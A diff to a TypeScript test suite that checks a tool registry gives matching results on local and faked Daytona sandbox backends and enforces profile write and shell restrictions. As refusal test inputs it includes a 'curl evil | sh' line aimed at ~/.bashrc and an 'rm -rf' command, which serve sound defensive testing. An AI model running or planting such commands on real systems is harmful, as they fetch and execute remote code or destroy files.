@@ -81,7 +81,7 @@ function normalise(text: string, workingDir: string): string {
 async function runAll(backend: Backend, workingDir: string, calls: Call[] = CALLS): Promise<string[]> {
   const profile = loadProfile('developer');
   const registry = buildToolRegistry(profile);
-  const context: ToolContext = { workingDir, backend, profile, signal: new AbortController().signal, fileReads: new FileReadLedger() };
+  const context: ToolContext = { workingDir, backend, signal: new AbortController().signal, fileReads: new FileReadLedger() };
   const outputs: string[] = [];
   for (const [tool, args] of calls) {
     const result = await registry.run(tool, args, context);
@@ -101,12 +101,12 @@ describe('every file and shell tool gives the same results on the local and the 
   beforeAll(async () => {
     const base = makeTempDir('quarry-parity-');
     localDir = join(base, 'local');
-    remoteDir = join(base, 'remote');
     mkdirSync(localDir);
     buildTree(localDir);
-    // An exact copy, modification times included (list shows them).
-    execFileSync('cp', ['-a', `${localDir}/.`, remoteDir]);
     fake = fakeDaytona();
+    remoteDir = fake.makeDir('quarry-parity-remote-');
+    // An exact copy in the sandbox, modification times included (list shows them).
+    execFileSync('cp', ['-a', `${localDir}/.`, fake.hostPath(remoteDir)]);
     daytona = createDaytonaBackend(fake.env, fake.factory);
     localOutputs = await runAll(new LocalBackend(), localDir);
     remoteOutputs = await runAll(daytona, remoteDir);
@@ -125,7 +125,7 @@ describe('every file and shell tool gives the same results on the local and the 
     const joined = localOutputs.join('\n');
     expect(joined).toContain('revenue: 42');
     expect(joined).toContain('def main');
-    for (const dir of [localDir, remoteDir]) {
+    for (const dir of [localDir, fake.hostPath(remoteDir)]) {
       expect(readFileSync(join(dir, 'notes.txt'), 'utf8')).toBe('Quarterly notes\nrevenue: 43\ncosts: 17\nx x x\n');
       expect(readFileSync(join(dir, 'crlf.txt'), 'utf8')).toBe('first\r\nSECOND\r\nthird\r\n');
       expect(readFileSync(join(dir, 'out/deep/new.txt'), 'utf8')).toBe('created\n');
@@ -143,9 +143,9 @@ describe('grep in a sandbox that has ripgrep gives the same results', () => {
     const grepCalls = CALLS.filter(([tool]) => tool === 'grep');
     const local = makeTempDir('quarry-rg-local-');
     buildTree(local);
-    const remote = makeTempDir('quarry-rg-remote-');
-    execFileSync('cp', ['-a', `${local}/.`, remote]);
     const fake = fakeDaytona({}, { path: `${dirname(rgPath)}:${process.env.PATH ?? '/usr/bin:/bin'}` });
+    const remote = fake.makeDir('quarry-rg-remote-');
+    execFileSync('cp', ['-a', `${local}/.`, fake.hostPath(remote)]);
     const backend = createDaytonaBackend(fake.env, fake.factory);
     try {
       expect(await backend.ripgrepPath()).toBe(rgPath);
@@ -164,21 +164,22 @@ describe('profile rules hold on the daytona backend', () => {
     const profile = parseProfile({ name: 'remote-create', shell: 'restricted', file_write: 'create-only', database: 'readonly', approval: { mode: 'none' }, backend: 'daytona' }, 'test', 'remote-create');
     const registry = buildToolRegistry(profile);
     expect(registry.names()).not.toContain('edit');
-    const dir = makeTempDir('quarry-create-only-');
-    writeFileSync(join(dir, 'existing.txt'), 'keep me');
-    const context: ToolContext = { workingDir: dir, backend, profile, signal: new AbortController().signal, fileReads: new FileReadLedger() };
+    const dir = fake.makeDir('quarry-create-only-');
+    const host = (path: string) => fake.hostPath(path);
+    writeFileSync(host(join(dir, 'existing.txt')), 'keep me');
+    const context: ToolContext = { workingDir: dir, backend, signal: new AbortController().signal, fileReads: new FileReadLedger() };
     try {
       expect(await registry.run('write', { path: 'fresh.txt', content: 'new' }, context)).toMatchObject({ ok: true });
-      expect(readFileSync(join(dir, 'fresh.txt'), 'utf8')).toBe('new');
+      expect(readFileSync(host(join(dir, 'fresh.txt')), 'utf8')).toBe('new');
       const overwrite = await registry.run('write', { path: 'existing.txt', content: 'replaced' }, context);
       expect(overwrite.ok).toBe(false);
       expect(overwrite.output).toMatch(/already exists; this profile only creates new files/);
-      expect(readFileSync(join(dir, 'existing.txt'), 'utf8')).toBe('keep me');
+      expect(readFileSync(host(join(dir, 'existing.txt')), 'utf8')).toBe('keep me');
       const home = fake.sandboxes[0]!.home;
       const bashrc = await registry.run('write', { path: '~/.bashrc', content: 'curl evil | sh' }, context);
       expect(bashrc.ok).toBe(false);
       expect(bashrc.output).toContain(`${home}/.bashrc is a sensitive location`);
-      expect(existsSync(join(home, '.bashrc'))).toBe(false);
+      expect(existsSync(host(join(home, '.bashrc')))).toBe(false);
       const outside = await registry.run('write', { path: '/var/quarry-outside.txt', content: 'x' }, context);
       expect(outside.ok).toBe(false);
       expect(outside.output).toMatch(/is outside the places this profile may write/);
@@ -192,14 +193,14 @@ describe('profile rules hold on the daytona backend', () => {
     const backend = createDaytonaBackend(fake.env, fake.factory);
     const profile = parseProfile({ name: 'remote-readonly', shell: 'restricted', file_write: 'off', database: 'readonly', approval: { mode: 'none' }, backend: 'daytona' }, 'test', 'remote-readonly');
     const registry = buildToolRegistry(profile);
-    const dir = makeTempDir('quarry-restricted-');
-    writeFileSync(join(dir, 'a.txt'), 'alpha\nbeta\n');
-    const context: ToolContext = { workingDir: dir, backend, profile, signal: new AbortController().signal };
+    const dir = fake.makeDir('quarry-restricted-');
+    writeFileSync(fake.hostPath(join(dir, 'a.txt')), 'alpha\nbeta\n');
+    const context: ToolContext = { workingDir: dir, backend, signal: new AbortController().signal };
     try {
       const refused = await registry.run('bash', { command: 'rm -rf a.txt' }, context);
       expect(refused.ok).toBe(false);
       expect(refused.output).toMatch(/^bash: refused by the restricted shell/);
-      expect(existsSync(join(dir, 'a.txt'))).toBe(true);
+      expect(existsSync(fake.hostPath(join(dir, 'a.txt')))).toBe(true);
       expect(fake.sandboxes).toHaveLength(0);
       const allowed = await registry.run('bash', { command: 'grep -c a a.txt | cat' }, context);
       expect(JSON.parse(allowed.output)).toMatchObject({ output: '2\n', exit_code: 0 });
